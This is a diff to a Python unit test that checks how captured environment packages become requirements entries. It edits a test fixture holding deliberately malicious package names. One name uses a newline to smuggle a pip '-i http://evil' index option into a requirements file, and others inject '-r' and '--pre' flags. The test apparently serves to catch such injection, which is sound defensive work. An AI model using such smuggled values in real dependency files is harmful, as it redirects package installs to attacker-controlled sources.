@@ -105,7 +105,7 @@ def test_of_a_run_its_packages_become_requirements() -> None:
     capture = EnvironmentCapture(
         language="python",
         language_version="3.11.7",
-        packages={"numpy": "2.0", "Mine": "0.1.dev1", "x\n--index-url http://evil": "1", "-r": "x", "odd": "1 --pre"},
+        packages={"numpy": "2.0", "Mine": "0.1.dev1", "x\n-i http://evil": "1", "-r": "x", "odd": "1 --pre"},
         local_packages=["Mine"],
     )
     found = environments.from_run(capture, "r1")
